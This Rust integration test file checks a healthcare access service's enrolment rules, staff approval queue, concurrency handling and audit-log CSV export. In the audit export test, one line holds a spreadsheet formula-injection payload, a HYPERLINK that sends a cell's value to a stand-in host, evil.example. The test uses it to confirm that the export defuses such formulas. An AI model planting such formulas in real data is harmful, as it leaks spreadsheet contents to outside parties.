//! CareConnect applications, the site-level declaration and the back office on a real database
//! (SQLite, or PostgreSQL with TEST_DATABASE_URL): the enrolment form's rules, approval refused
//! while requirements are unmet, one outcome for concurrent decisions, staff-only access, the
//! audit search and its export, and the fields only staff change.

use app::accounts::service::grant_staff;
use app::applications::{service as applications, types::*};
use app::audit::{search as audit_search, types::AuditQuery};
use app::entities::{careconnect_access, careconnect_application, notification};
use app::error::{AppError, Refusal};
use app::flows::people as people_lookup;
use app::platform::{Actor, AppState};
use app::privacy::{
    declaration, hpcaa,
    types::{DeclarationSigning, HpcaaSigning},
};
use app::testing::*;
use app::worksites::service::staff as worksite_staff;
use app::worksites::types::{
    LockedFieldsForm, WorksiteForm, WorksiteId, WorksiteSummary, WorksiteType,
};
use sea_orm::{ColumnTrait, EntityTrait, PaginatorTrait, QueryFilter};

/// A community pharmacy administered by its owner (a pharmacist who also applies), with a second
/// pharmacist, an MOA and a physiotherapist as members, and Sam of the CareConnect team.
struct Pharmacy {
    site: WorksiteSummary,
    owner: i64,
    pia: i64,
    greg: i64,
    phil: i64,
    sam: i64,
}

fn pharmacy_form(name: &str, street: &str, postal_code: &str) -> WorksiteForm {
    WorksiteForm {
        worksite_type: WorksiteType::CommunityPharmacy.code().to_owned(),
        clinic_type: "Pharmacy".to_owned(),
        ..worksite_form(name, street, postal_code)
    }
}

async fn pharmacy(state: &AppState) -> Pharmacy {
    let owner = quick_account(state, "olive", "Olive", "Owner", "pharmacist").await;
    let pia = quick_account(state, "pia", "Pia", "Pharm", "pharmacist").await;
    let greg = quick_account(state, "greg", "Gregory", "Nineteen", "moa").await;
    let phil = quick_account(state, "phil", "Phil", "Physio", "physiotherapist").await;
    let sam = quick_account(state, "sam", "Sam", "Staff", "physician").await;
    as_operator(state, async |ch| {
        grant_staff(ch, "sam@clinic.example").await
    })
    .await
    .unwrap();
    let site = register_worksite(
        state,
        owner,
        &pharmacy_form("Main Street Pharmacy", "88 Main St", "V5T 3E2"),
    )
    .await;
    for member in [pia, greg, phil] {
        add_member(state, &site.code, member, false).await;
    }
    Pharmacy {
        site,
        owner,
        pia,
        greg,
        phil,
        sam,
    }
}

fn enrolment(code: &WorksiteId) -> EnrolmentForm {
    EnrolmentForm {
        worksite: code.to_string(),
        licence_number: "P-55120".to_owned(),
        health_authority_access: Some("no".to_owned()),
        health_authority_details: String::new(),
        direct_patient_care: Some("on".to_owned()),
    }
}

async fn submit(state: &AppState, account: i64, form: &EnrolmentForm) -> Result<String, AppError> {
    as_account(state, account, async |ch| {
        applications::submit(ch, form, None).await
    })
    .await
}

async fn only_application(state: &AppState, account: i64) -> careconnect_application::Model {
    let mut rows = careconnect_application::Entity::find()
        .filter(careconnect_application::Column::AccountId.eq(account))
        .all(&state.db)
        .await
        .unwrap();
    assert_eq!(rows.len(), 1);
    rows.remove(0)
}

/// A decision by someone who sees the application as it stands now.
async fn decide(
    state: &AppState,
    staff: i64,
    id: i64,
    decision: Decision,
    message: &str,
) -> Result<(), AppError> {
    let seen = careconnect_application::Entity::find_by_id(id)
        .one(&state.db)
        .await
        .unwrap()
        .map(|row| row.status)
        .unwrap();
    as_account(state, staff, async |ch| {
        applications::decide(ch, id, decision, seen, message).await
    })
    .await
}

fn field_error(result: Result<impl std::fmt::Debug, AppError>, field: &str) -> String {
    match result {
        Err(AppError::Invalid(errors)) => errors
            .get(field)
            .unwrap_or_else(|| panic!("no error for {field}: {errors:?}"))
            .to_owned(),
        other => panic!("expected invalid {field}, got {other:?}"),
    }
}

async fn sign_hpcaa(state: &AppState, account: i64, name: &str) {
    as_account(state, account, async |ch| {
        hpcaa::sign(
            ch,
            &HpcaaSigning {
                full_name: name.to_owned(),
                agree: Some("on".to_owned()),
            },
        )
        .await
    })
    .await
    .unwrap();
}

fn declaring(name: &str) -> DeclarationSigning {
    DeclarationSigning {
        full_name: name.to_owned(),
        title: "Owner".to_owned(),
        signing_authority: Some("on".to_owned()),
        agree: Some("on".to_owned()),
    }
}

#[tokio::test]
async fn a_pharmacist_goes_from_the_enrolment_form_to_access() {
    let test = TestDb::new().await;
    let state = &test.state;
    let p = pharmacy(state).await;

    assert_eq!(
        submit(state, p.pia, &enrolment(&p.site.code))
            .await
            .unwrap(),
        "Your CareConnect request has been submitted and is pending approval."
    );
    let received = last_email_to(&state.db, "pia@clinic.example").await;
    assert_eq!(
        received.subject,
        "Your CareConnect request has been received"
    );
    assert!(received.body_text.contains("in queue for processing"));
    assert!(received.body_text.contains("10–15 minutes"));
    let application = only_application(state, p.pia).await;
    assert_eq!(application.status, ApplicationStatus::Submitted);

    // Her own view lists it with the unmet requirements.
    let mine = applications::mine(&state.db, p.pia).await.unwrap();
    assert!(mine.cannot_apply.is_none());
    let view = &mine.applications[0];
    assert_eq!(view.status, ApplicationStatus::Submitted);
    let unmet: Vec<&str> = view
        .checklist
        .iter()
        .filter(|r| !r.met)
        .map(|r| r.label.as_str())
        .collect();
    assert_eq!(
        unmet,
        [
            "P&S course complete",
            "HPCAA signed",
            "Site-level P&S declaration"
        ]
    );

    // Approval is refused, with the reasons, while requirements are unmet; nothing changes.
    decide(state, p.sam, application.id, Decision::StartReview, "")
        .await
        .unwrap();
    assert_eq!(
        last_email_to(&state.db, "pia@clinic.example").await.subject,
        "Your CareConnect request is in review"
    );
    match decide(state, p.sam, application.id, Decision::Approve, "").await {
        Err(AppError::Refused(Refusal::Because(reason))) => {
            assert!(reason.contains("P&S course complete"), "{reason}");
            assert!(reason.contains("HPCAA signed"), "{reason}");
            assert!(reason.contains("Site-level P&S declaration"), "{reason}");
        }
        other => panic!("expected a refusal, got {other:?}"),
    }
    assert_eq!(
        only_application(state, p.pia).await.status,
        ApplicationStatus::InReview
    );

    complete_course(state, "pia@clinic.example").await;
    sign_hpcaa(state, p.pia, "Pia Pharm").await;
    // Only an administrator signs the declaration, and only with signing authority.
    assert!(matches!(
        as_account(state, p.pia, async |ch| declaration::sign(
            ch,
            &p.site.code,
            &declaring("Pia Pharm")
        )
        .await)
        .await,
        Err(AppError::Forbidden)
    ));
    let without_authority = DeclarationSigning {
        signing_authority: None,
        ..declaring("Olive Owner")
    };
    field_error(
        as_account(state, p.owner, async |ch| {
            declaration::sign(ch, &p.site.code, &without_authority).await
        })
        .await,
        "signing_authority",
    );
    as_account(state, p.owner, async |ch| {
        declaration::sign(ch, &p.site.code, &declaring("Olive Owner")).await
    })
    .await
    .unwrap();
    assert!(matches!(
        as_account(state, p.owner, async |ch| declaration::sign(
            ch,
            &p.site.code,
            &declaring("Olive Owner")
        )
        .await)
        .await,
        Err(AppError::Conflict(_))
    ));

    decide(state, p.sam, application.id, Decision::Approve, "")
        .await
        .unwrap();
    let approved = only_application(state, p.pia).await;
    assert_eq!(approved.status, ApplicationStatus::Approved);
    assert_eq!(approved.decided_by, Some(p.sam));
    let welcome = last_email_to(&state.db, "pia@clinic.example").await;
    assert_eq!(
        welcome.subject,
        "Welcome to CareConnect: your Welcome Package"
    );
    assert!(welcome.body_text.contains("CareConnect@phsa.ca"));
    let grants = careconnect_access::Entity::find()
        .filter(careconnect_access::Column::AccountId.eq(p.pia))
        .filter(careconnect_access::Column::EndedAt.is_null())
        .count(&state.db)
        .await
        .unwrap();
    assert_eq!(grants, 1);
    let overview = app::access::service::overview(&state.db, p.pia)
        .await
        .unwrap();
    assert_eq!(overview.own[0].worksite.code, p.site.code);
    // Every stage was notified.
    let notes = notification::Entity::find()
        .filter(notification::Column::AccountId.eq(p.pia))
        .filter(notification::Column::Kind.eq("application_changed"))
        .count(&state.db)
        .await
        .unwrap();
    assert_eq!(notes, 3);
    // A decided application is decided once, whatever the decider saw.
    assert!(matches!(
        decide(state, p.sam, application.id, Decision::Deny, "late").await,
        Err(AppError::Conflict(_))
    ));
    assert!(matches!(
        as_account(state, p.sam, async |ch| applications::decide(
            ch,
            application.id,
            Decision::Deny,
            ApplicationStatus::InReview,
            "stale page"
        )
        .await)
        .await,
        Err(AppError::Conflict(_))
    ));
    // With access, she does not apply again from the same worksite.
    assert!(matches!(
        submit(state, p.pia, &enrolment(&p.site.code)).await,
        Err(AppError::Conflict(_))
    ));
}

#[tokio::test]
async fn the_form_refuses_what_it_must_and_keeps_one_open_request() {
    let test = TestDb::new().await;
    let state = &test.state;
    let p = pharmacy(state).await;

    let empty = EnrolmentForm {
        worksite: String::new(),
        licence_number: " ".to_owned(),
        health_authority_access: None,
        health_authority_details: String::new(),
        direct_patient_care: None,
    };
    let result = submit(state, p.pia, &empty).await;
    let Err(AppError::Invalid(errors)) = result else {
        panic!("expected field errors, got {result:?}");
    };
    for field in [
        "worksite",
        "licence_number",
        "health_authority_access",
        "direct_patient_care",
    ] {
        assert!(errors.get(field).is_some(), "{field}: {errors:?}");
    }
    let yes_without_details = EnrolmentForm {
        health_authority_access: Some("yes".to_owned()),
        ..enrolment(&p.site.code)
    };
    field_error(
        submit(state, p.pia, &yes_without_details).await,
        "health_authority_details",
    );

    // An undesignated profession and an On-Behalf-Of user are refused with their reasons.
    match submit(state, p.phil, &enrolment(&p.site.code)).await {
        Err(AppError::Refused(Refusal::NoDesignationOrder { .. })) => {}
        other => panic!("expected a refusal, got {other:?}"),
    }
    assert!(applications::mine(&state.db, p.phil)
        .await
        .unwrap()
        .cannot_apply
        .is_some_and(|r| r.contains("Designation Order")));
    assert!(matches!(
        submit(state, p.greg, &enrolment(&p.site.code)).await,
        Err(AppError::Refused(_))
    ));

    // An ineligible worksite type: the reason is next to the worksite field.
    let hac = register_worksite(
        state,
        p.pia,
        &WorksiteForm {
            worksite_type: WorksiteType::HealthAuthorityClinic.code().to_owned(),
            ..worksite_form("Harbour Health Clinic", "12 Harbour Rd", "V6B 1A1")
        },
    )
    .await;
    let message = field_error(
        submit(state, p.pia, &enrolment(&hac.code)).await,
        "worksite",
    );
    assert!(message.contains("Health Authority Clinic"), "{message}");

    // Not a member of the worksite: refused alike, whether or not it exists.
    let elsewhere = quick_account(state, "elle", "Elle", "Where", "pharmacist").await;
    field_error(
        submit(state, elsewhere, &enrolment(&p.site.code)).await,
        "worksite",
    );
    field_error(
        submit(state, elsewhere, &enrolment(&"ZZZZZZZ".parse().unwrap())).await,
        "worksite",
    );
    assert_eq!(
        careconnect_application::Entity::find()
            .count(&state.db)
            .await
            .unwrap(),
        0
    );

    // One open request per person and worksite.
    submit(state, p.pia, &enrolment(&p.site.code))
        .await
        .unwrap();
    assert!(matches!(
        submit(state, p.pia, &enrolment(&p.site.code)).await,
        Err(AppError::Conflict(_))
    ));
    // Users see only their own applications.
    assert!(applications::mine(&state.db, p.owner)
        .await
        .unwrap()
        .applications
        .is_empty());
}

#[tokio::test]
async fn returned_requests_are_resubmitted_and_denials_give_their_reason() {
    let test = TestDb::new().await;
    let state = &test.state;
    let p = pharmacy(state).await;
    submit(state, p.pia, &enrolment(&p.site.code))
        .await
        .unwrap();
    let id = only_application(state, p.pia).await.id;

    field_error(
        decide(state, p.sam, id, Decision::ReturnForInformation, "  ").await,
        "message",
    );
    decide(
        state,
        p.sam,
        id,
        Decision::ReturnForInformation,
        "Please give your full college registration number.",
    )
    .await
    .unwrap();
    let returned = last_email_to(&state.db, "pia@clinic.example").await;
    assert_eq!(
        returned.subject,
        "Your CareConnect request needs more information"
    );
    assert!(returned
        .body_text
        .contains("full college registration number"));
    let view = applications::mine(&state.db, p.pia).await.unwrap();
    assert_eq!(view.applications[0].status, ApplicationStatus::Returned);

    // Someone else cannot resubmit it; she can, once.
    let updated = EnrolmentForm {
        licence_number: "BC-P-0055120".to_owned(),
        ..enrolment(&p.site.code)
    };
    assert!(matches!(
        as_account(state, p.owner, async |ch| applications::submit(
            ch,
            &updated,
            Some(id)
        )
        .await)
        .await,
        Err(AppError::Conflict(_))
    ));
    as_account(state, p.pia, async |ch| {
        applications::submit(ch, &updated, Some(id)).await
    })
    .await
    .unwrap();
    let row = only_application(state, p.pia).await;
    assert_eq!(
        (row.status, row.licence_number.as_str()),
        (ApplicationStatus::Submitted, "BC-P-0055120")
    );
    assert!(row.staff_message.is_none());
    assert!(matches!(
        as_account(state, p.pia, async |ch| applications::submit(
            ch,
            &updated,
            Some(id)
        )
        .await)
        .await,
        Err(AppError::Conflict(_))
    ));

    field_error(
        decide(state, p.sam, id, Decision::Deny, "").await,
        "message",
    );
    decide(
        state,
        p.sam,
        id,
        Decision::Deny,
        "Not a practising pharmacist at this site.",
    )
    .await
    .unwrap();
    let denied = last_email_to(&state.db, "pia@clinic.example").await;
    assert_eq!(denied.subject, "Your CareConnect request was denied");
    assert!(denied.body_text.contains("Not a practising pharmacist"));
    let view = applications::mine(&state.db, p.pia).await.unwrap();
    assert_eq!(
        view.applications[0].staff_message.as_deref(),
        Some("Not a practising pharmacist at this site.")
    );
    // After a denial she may apply again.
    submit(state, p.pia, &enrolment(&p.site.code))
        .await
        .unwrap();
}

#[tokio::test]
async fn only_staff_work_the_queue_and_concurrent_decisions_yield_one_outcome() {
    let test = TestDb::new().await;
    let state = &test.state;
    let p = pharmacy(state).await;
    submit(state, p.pia, &enrolment(&p.site.code))
        .await
        .unwrap();
    let id = only_application(state, p.pia).await.id;

    for outsider in [p.pia, p.owner] {
        assert!(matches!(
            applications::queue(&state.db, outsider, &QueueFilter::default()).await,
            Err(AppError::Forbidden)
        ));
        assert!(matches!(
            applications::detail(&state.db, outsider, id).await,
            Err(AppError::Forbidden)
        ));
        assert!(matches!(
            decide(state, outsider, id, Decision::Deny, "no").await,
            Err(AppError::Forbidden)
        ));
    }
    assert_eq!(
        only_application(state, p.pia).await.status,
        ApplicationStatus::Submitted
    );

    let detail = applications::detail(&state.db, p.sam, id).await.unwrap();
    assert_eq!(detail.applicant, "Pia Pharm");
    assert_eq!(detail.application.checklist.len(), 7);

    let before = emails_to(&state.db, "pia@clinic.example").await.len();
    let attempts = [
        (Decision::Deny, "duplicate"),
        (Decision::ReturnForInformation, "more"),
        (Decision::Deny, "again"),
        (Decision::ReturnForInformation, "once more"),
    ];
    let handles: Vec<_> = attempts
        .into_iter()
        .map(|(decision, message)| {
            let (state, sam) = (state.clone(), p.sam);
            tokio::spawn(async move {
                let seen = ApplicationStatus::Submitted;
                as_account(&state, sam, async |ch| {
                    applications::decide(ch, id, decision, seen, message).await
                })
                .await
            })
        })
        .collect();
    let mut results = Vec::new();
    for handle in handles {
        results.push(handle.await.unwrap());
    }
    assert_eq!(results.iter().filter(|r| r.is_ok()).count(), 1);
    assert!(results
        .iter()
        .filter_map(|r| r.as_ref().err())
        .all(|e| matches!(e, AppError::Conflict(_))));
    assert_eq!(
        emails_to(&state.db, "pia@clinic.example").await.len(),
        before + 1
    );
}

#[tokio::test]
async fn the_queue_filters_and_pages() {
    let test = TestDb::new().await;
    let state = &test.state;
    let p = pharmacy(state).await;
    let clinic_admin = quick_account(state, "dalia", "Dalia", "Eighteen", "physician").await;
    let clinic = register_worksite(
        state,
        clinic_admin,
        &worksite_form("Barclay Clinic", "1234 Barclay St", "V6E 1H4"),
    )
    .await;
    submit(state, clinic_admin, &enrolment(&clinic.code))
        .await
        .unwrap();
    for n in 0..27 {
        let id = quick_account(
            state,
            &format!("ph{n}"),
            "Pharm",
            &format!("No{n}"),
            "pharmacist",
        )
        .await;
        add_member(state, &p.site.code, id, false).await;
        submit(state, id, &enrolment(&p.site.code)).await.unwrap();
    }
    let all = applications::queue(&state.db, p.sam, &QueueFilter::default())
        .await
        .unwrap();
    assert_eq!((all.total, all.rows.len()), (28, 25));
    // Oldest first: Dalia applied first.
    assert_eq!(all.rows[0].applicant, "Dalia Eighteen");
    let second = applications::queue(
        &state.db,
        p.sam,
        &QueueFilter {
            page: 1,
            ..Default::default()
        },
    )
    .await
    .unwrap();
    assert_eq!(second.rows.len(), 3);

    let pharmacies = QueueFilter {
        worksite_type: WorksiteType::CommunityPharmacy.code().to_owned(),
        ..Default::default()
    };
    assert_eq!(
        applications::queue(&state.db, p.sam, &pharmacies)
            .await
            .unwrap()
            .total,
        27
    );
    let physicians = QueueFilter {
        profession: profession_id(&state.db, "physician").await.to_string(),
        ..Default::default()
    };
    let found = applications::queue(&state.db, p.sam, &physicians)
        .await
        .unwrap();
    assert_eq!(found.total, 1);
    assert_eq!(found.rows[0].worksite, "Barclay Clinic");
    let old = QueueFilter {
        older_than_days: "7".to_owned(),
        ..Default::default()
    };
    assert_eq!(
        applications::queue(&state.db, p.sam, &old)
            .await
            .unwrap()
            .total,
        0
    );
    let approved = QueueFilter {
        status: "approved".to_owned(),
        ..Default::default()
    };
    assert_eq!(
        applications::queue(&state.db, p.sam, &approved)
            .await
            .unwrap()
            .total,
        0
    );
}

#[tokio::test]
async fn home_office_access_follows_access_from_a_physical_worksite() {
    let test = TestDb::new().await;
    let state = &test.state;
    let p = pharmacy(state).await;
    let dalia = quick_account(state, "dalia", "Dalia", "Eighteen", "physician").await;
    let home = register_worksite(
        state,
        dalia,
        &WorksiteForm {
            worksite_type: WorksiteType::HomeOffice.code().to_owned(),
            ..worksite_form("Dalia's Home Office", "5 Quiet Lane", "V7A 2B2")
        },
    )
    .await;
    let message = field_error(
        submit(state, dalia, &enrolment(&home.code)).await,
        "worksite",
    );
    assert!(message.contains("physical worksite"), "{message}");
    // A pharmacist is never granted Home Office access.
    add_member(state, &home.code, p.pia, false).await;
    let message = field_error(
        submit(state, p.pia, &enrolment(&home.code)).await,
        "worksite",
    );
    assert!(
        message.contains("physicians and nurse practitioners"),
        "{message}"
    );

    let clinic = register_worksite(
        state,
        dalia,
        &worksite_form("Barclay Clinic", "1234 Barclay St", "V6E 1H4"),
    )
    .await;
    as_operator(state, async |ch| {
        app::access::service::grant(ch, dalia, &clinic.code).await
    })
    .await
    .unwrap();
    submit(state, dalia, &enrolment(&home.code)).await.unwrap();
}

#[tokio::test]
async fn the_audit_log_is_searched_and_exported_by_staff_only() {
    let test = TestDb::new().await;
    let state = &test.state;
    let p = pharmacy(state).await;
    submit(state, p.pia, &enrolment(&p.site.code))
        .await
        .unwrap();

    assert!(matches!(
        audit_search::search(&state.db, p.pia, &AuditQuery::default()).await,
        Err(AppError::Forbidden)
    ));
    assert!(matches!(
        audit_search::export_csv(&state.db, p.owner, &AuditQuery::default()).await,
        Err(AppError::Forbidden)
    ));

    let submitted = AuditQuery {
        action: "application_submitted".to_owned(),
        ..Default::default()
    };
    let page = audit_search::search(&state.db, p.sam, &submitted)
        .await
        .unwrap();
    assert_eq!(page.total, 1);
    assert_eq!(
        page.rows[0].actor.as_deref(),
        Some("Pia Pharm <pia@clinic.example>")
    );
    assert_eq!(
        page.rows[0].worksite.as_deref(),
        Some(format!("Main Street Pharmacy ({})", p.site.code).as_str())
    );
    let by_actor = AuditQuery {
        actor: "PIA".to_owned(),
        worksite: p.site.code.as_str().to_lowercase(),
        ..Default::default()
    };
    assert_eq!(
        audit_search::search(&state.db, p.sam, &by_actor)
            .await
            .unwrap()
            .total,
        1
    );
    let nobody = AuditQuery {
        actor: "nobody@nowhere.example".to_owned(),
        ..Default::default()
    };
    assert_eq!(
        audit_search::search(&state.db, p.sam, &nobody)
            .await
            .unwrap()
            .total,
        0
    );
    let today = chrono::Utc::now()
        .with_timezone(&chrono_tz::America::Vancouver)
        .date_naive();
    let today_only = AuditQuery {
        from: today.to_string(),
        to: today.to_string(),
        ..submitted.clone()
    };
    assert_eq!(
        audit_search::search(&state.db, p.sam, &today_only)
            .await
            .unwrap()
            .total,
        1
    );
    let yesterday = AuditQuery {
        to: today.pred_opt().unwrap().to_string(),
        ..submitted.clone()
    };
    assert_eq!(
        audit_search::search(&state.db, p.sam, &yesterday)
            .await
            .unwrap()
            .total,
        0
    );
    field_error(
        audit_search::search(
            &state.db,
            p.sam,
            &AuditQuery {
                from: "23/11/2026".to_owned(),
                ..Default::default()
            },
        )
        .await,
        "from",
    );

    let csv = String::from_utf8(
        audit_search::export_csv(&state.db, p.sam, &submitted)
            .await
            .unwrap()
            .read_all(&state.db)
            .await
            .unwrap(),
    )
    .unwrap();
    let lines: Vec<&str> = csv.lines().collect();
    assert_eq!(lines.len(), 2, "{csv}");
    assert!(lines[0].starts_with("id,occurred_at_pacific,actor"));
    assert!(lines[1].contains("Application submitted"));
    assert!(lines[1].contains("Pia Pharm <pia@clinic.example>"));

    // Anyone may name a worksite like a formula: the export opens it as text.
    let formula = "=HYPERLINK(\"https://evil.example/?\"&C2,\"open\")";
    let named = register_worksite(
        state,
        p.owner,
        &worksite_form(formula, "77 Formula St", "V6E 1H4"),
    )
    .await;
    let of_it = AuditQuery {
        worksite: named.code.to_string(),
        ..Default::default()
    };
    let csv = audit_search::export_csv(&state.db, p.sam, &of_it)
        .await
        .unwrap()
        .read_all(&state.db)
        .await
        .unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_slice());
    let worksites: Vec<String> = reader
        .records()
        .map(|record| record.unwrap()[4].to_owned())
        .collect();
    assert!(!worksites.is_empty());
    for cell in worksites {
        assert!(cell.starts_with("'=HYPERLINK"), "{cell}");
    }
}

/// The export reads a page at a time after the last event it wrote: every event once, newest
/// first, across pages and across the many events that share a time.
#[tokio::test]
async fn the_audit_export_holds_every_event_once_across_pages_and_equal_times() {
    use app::audit::{AuditAction, AuditEntry};
    use app::entities::audit_event;
    use sea_orm::{QueryOrder, Set};
    let test = TestDb::new().await;
    let state = &test.state;
    let p = pharmacy(state).await;
    let at = chrono::Utc::now() - chrono::Duration::days(1);
    let events: Vec<_> = (0..1_234)
        .map(|n| {
            let mut row = app::audit::row(AuditEntry::new(
                AuditAction::EmailResent,
                format!("tie:{n}"),
            ));
            // Seven times in all, so pages end in the middle of events of one time.
            row.occurred_at = Set(at + chrono::Duration::seconds(n % 7));
            row
        })
        .collect();
    for chunk in events.chunks(400) {
        audit_event::Entity::insert_many(chunk.to_vec())
            .exec(&state.db)
            .await
            .unwrap();
    }
    let resent = AuditQuery {
        action: "email_resent".to_owned(),
        ..Default::default()
    };
    let csv = audit_search::export_csv(&state.db, p.sam, &resent)
        .await
        .unwrap()
        .read_all(&state.db)
        .await
        .unwrap();
    let exported: Vec<i64> = csv::Reader::from_reader(csv.as_slice())
        .records()
        .map(|record| record.unwrap()[0].parse().unwrap())
        .collect();
    let newest_first: Vec<i64> = audit_event::Entity::find()
        .filter(audit_event::Column::Action.eq("email_resent"))
        .order_by_desc(audit_event::Column::OccurredAt)
        .order_by_desc(audit_event::Column::Id)
        .all(&state.db)
        .await
        .unwrap()
        .into_iter()
        .map(|event| event.id)
        .collect();
    assert_eq!(newest_first.len(), 1_234);
    assert_eq!(exported, newest_first);
}

#[tokio::test]
async fn staff_look_people_and_worksites_up_and_change_the_locked_fields() {
    let test = TestDb::new().await;
    let state = &test.state;
    let p = pharmacy(state).await;

    let found = people_lookup::find_people(&state.db, p.sam, "pia pharm")
        .await
        .unwrap();
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].id, p.pia);
    assert!(people_lookup::find_people(&state.db, p.sam, "100%")
        .await
        .unwrap()
        .is_empty());
    assert!(matches!(
        people_lookup::find_people(&state.db, p.pia, "pia").await,
        Err(AppError::Forbidden)
    ));
    let record = people_lookup::record(&state.db, p.sam, p.owner)
        .await
        .unwrap();
    assert!(record.identity_validated);
    assert_eq!(
        record.memberships,
        [format!(
            "Main Street Pharmacy ({}): active, administrator",
            p.site.code
        )]
    );

    assert_eq!(
        worksite_staff::lookup(&state.db, p.sam, &p.site.code.as_str().to_lowercase())
            .await
            .unwrap()[0]
            .name,
        "Main Street Pharmacy"
    );
    assert_eq!(
        worksite_staff::lookup(&state.db, p.sam, "88 main")
            .await
            .unwrap()
            .len(),
        1
    );
    let moved = LockedFieldsForm {
        unit: String::new(),
        street: "99 Kingsway".to_owned(),
        city: "Burnaby".to_owned(),
        postal_code: "v5h 2a9".to_owned(),
        emr: "Accuro".to_owned(),
        clinic_type: "Pharmacy".to_owned(),
    };
    assert!(matches!(
        as_account(state, p.owner, async |ch| worksite_staff::update_locked(
            ch,
            &p.site.code,
            &moved
        )
        .await)
        .await,
        Err(AppError::Forbidden)
    ));
    field_error(
        as_account(state, p.sam, async |ch| {
            worksite_staff::update_locked(
                ch,
                &p.site.code,
                &LockedFieldsForm {
                    postal_code: "12345".to_owned(),
                    ..moved.clone()
                },
            )
            .await
        })
        .await,
        "postal_code",
    );
    as_account(state, p.sam, async |ch| {
        worksite_staff::update_locked(ch, &p.site.code, &moved).await
    })
    .await
    .unwrap();
    let view = worksite_staff::view(&state.db, p.sam, &p.site.code)
        .await
        .unwrap();
    assert_eq!(
        view.address.display(),
        "99 KINGSWAY, BURNABY BC V5H 2A9, CANADA"
    );
    assert_eq!(view.emr, "Accuro");
    assert_eq!(view.administrators, ["Olive Owner"]);
    // The address search follows the new address.
    assert_eq!(
        worksite_staff::lookup(&state.db, p.sam, "kingsway burnaby")
            .await
            .unwrap()
            .len(),
        1
    );
    assert!(worksite_staff::lookup(&state.db, p.sam, "88 main")
        .await
        .unwrap()
        .is_empty());
}

#[tokio::test]
async fn an_identity_from_the_development_provider_never_counts_as_validated() {
    use app::accounts::types::{ValidatedIdentity, DEVELOPMENT_ISSUER};
    let test = TestDb::new().await;
    let state = &test.state;
    let p = pharmacy(state).await;
    let form = registration(&state.db, "devon", "devon@clinic.example").await;
    let typed_in = ValidatedIdentity {
        issuer: DEVELOPMENT_ISSUER.to_owned(),
        ..identity("devon")
    };
    let devon = app::accounts::service::register(state, Actor::system(), &typed_in, &form)
        .await
        .unwrap();
    add_member(state, &p.site.code, devon, false).await;

    let site = app::worksites::service::find_by_code(&state.db, &p.site.code)
        .await
        .unwrap()
        .unwrap();
    let identity_requirement = |account: i64| {
        let site = site.clone();
        async move {
            let who = app::professions::service::person(&state.db, account)
                .await
                .unwrap()
                .unwrap();
            applications::checklist(&state.db, &who, &site)
                .await
                .unwrap()
                .into_iter()
                .find(|r| r.label == "Identity validated")
                .expect("the identity requirement")
        }
    };
    let validated = identity_requirement(p.pia).await;
    assert!(validated.met, "{}", validated.detail);
    let typed = identity_requirement(devon).await;
    assert!(!typed.met, "{}", typed.detail);
    let record = people_lookup::record(&state.db, p.sam, devon)
        .await
        .unwrap();
    assert!(!record.identity_validated);
}

#[tokio::test]
async fn a_team_member_never_decides_their_own_application() {
    let test = TestDb::new().await;
    let state = &test.state;
    let p = pharmacy(state).await;
    // Pia is a pharmacist and joins the CareConnect team.
    as_operator(state, async |ch| {
        grant_staff(ch, "pia@clinic.example").await
    })
    .await
    .unwrap();
    submit(state, p.pia, &enrolment(&p.site.code))
        .await
        .unwrap();
    let mine = only_application(state, p.pia).await;
    let refused = decide(state, p.pia, mine.id, Decision::StartReview, "").await;
    assert!(
        matches!(&refused, Err(AppError::Refused(reason)) if reason.to_string().contains("your own application")),
        "{refused:?}"
    );
    assert_eq!(
        only_application(state, p.pia).await.status,
        mine.status,
        "nothing changed"
    );
    decide(state, p.sam, mine.id, Decision::StartReview, "")
        .await
        .unwrap();
}
